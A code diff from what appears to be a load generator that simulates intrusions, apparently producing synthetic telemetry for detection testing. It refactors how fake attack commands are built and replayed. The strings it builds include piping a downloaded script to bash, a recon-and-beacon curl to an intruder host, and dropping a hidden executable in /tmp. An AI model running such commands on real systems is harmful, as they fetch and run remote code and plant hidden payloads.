@@ -91,21 +91,26 @@ Intruder MakeIntruder(Random& random) {
 
 ShellCommand FetchCommand(const Intruder& intruder, Random& random) {
   const std::string home = absl::StrCat("https://", intruder.home, "/");
-  const std::string script = absl::StrCat(home, random.Hex(6), ".sh");
-  const std::string hidden = absl::StrCat("/tmp/.", random.Hex(8));
+  const std::string word = random.Hex(8);
+  ShellCommand command;
   switch (random.Between(0, 2)) {
     case 0:
-      return {absl::StrCat("curl -fsSL ", script, " | bash"),
-              {{ProgramId::kCurl, {"curl", "-fsSL", script}}}};
+      command.call = {ProgramId::kCurl, {"curl", "-fsSL", absl::StrCat(home, word, ".sh")}};
+      command.text = absl::StrCat("curl -fsSL ", home, word, ".sh | bash");
+      break;
     case 1:
-      return {absl::StrCat("id; uname -a; curl -s ", home, "r?k=", hidden.substr(6)),
-              {{ProgramId::kId, {"id"}},
-               {ProgramId::kUname, {"uname", "-a"}},
-               {ProgramId::kCurl, {"curl", "-s", absl::StrCat(home, "r?k=", hidden.substr(6))}}}};
+      command.before = {{ProgramId::kId, {"id"}}, {ProgramId::kUname, {"uname", "-a"}}};
+      command.call = {ProgramId::kCurl, {"curl", "-s", absl::StrCat(home, "r?k=", word)}};
+      command.text = absl::StrCat("id; uname -a; curl -s ", home, "r?k=", word);
+      break;
     default:
-      return {absl::StrCat("curl -s -o ", hidden, " ", home, "m && chmod +x ", hidden),
-              {{ProgramId::kCurl, {"curl", "-s", "-o", hidden, home + "m"}}}};
+      const std::string file = absl::StrCat("/tmp/.", word);
+      command.call = {ProgramId::kCurl, {"curl", "-s", "-o", file, home + "m"}};
+      command.saved_as = "/private" + file;
+      command.after = {{ProgramId::kChmod, {"chmod", "+x", file}}};
+      command.text = absl::StrCat("curl -s -o ", file, " ", home, "m && chmod +x ", file);
   }
+  return command;
 }
 
 Request Exploit(const Host& host, const Intruder& intruder, absl::string_view command,
@@ -133,15 +138,12 @@ Visit FailedTry(const Intruder& intruder, Random& random) {
 
 Script PlayRaid(Machine& machine, Raid raid) {
   Timeline& timeline = machine.timeline;
-  const Command call = raid.steps.back();
-  raid.steps.pop_back();
-  for (const Command& step : raid.steps) {
-    co_await machine.RunChild(raid.shell, step,
-                              machine.Between(2 * kMillisecond, 6 * kMillisecond));
+  for (const Command& step : raid.command.before) {
+    co_await machine.RunChild(raid.shell, step, 4 * kMillisecond);
   }
   Process* curl = machine.processes.Fork(*raid.shell);
   co_await timeline.Sleep(machine.Between(150 * kMicrosecond, kMillisecond));
-  machine.processes.Exec(*curl, call, machine.Now(raid.planted, "tool"));
+  machine.processes.Exec(*curl, raid.command.call, machine.Now(raid.planted, "tool"));
   co_await timeline.Sleep(machine.Between(8 * kMillisecond, 40 * kMillisecond) + raid.pause);
   ConnectionStart connection;
   connection.process = curl;
@@ -150,7 +152,14 @@ Script PlayRaid(Machine& machine, Raid raid) {
   connection.flow_delay = raid.flow_delay;
   connection.planted = raid.planted;
   co_await machine.Connect(std::move(connection));
-  machine.processes.Exit(*curl);
+  if (!raid.command.saved_as.empty()) {
+    co_await machine.WriteFile(curl, raid.command.saved_as, machine.Between(9'000, 900'000),
+                               machine.Now(raid.planted, "download"));
+  }
+  co_await machine.End(curl);
+  for (const Command& step : raid.command.after) {
+    co_await machine.RunChild(raid.shell, step, 3 * kMillisecond);
+  }
 }
 
 }  // namespace sequitur::loadgen
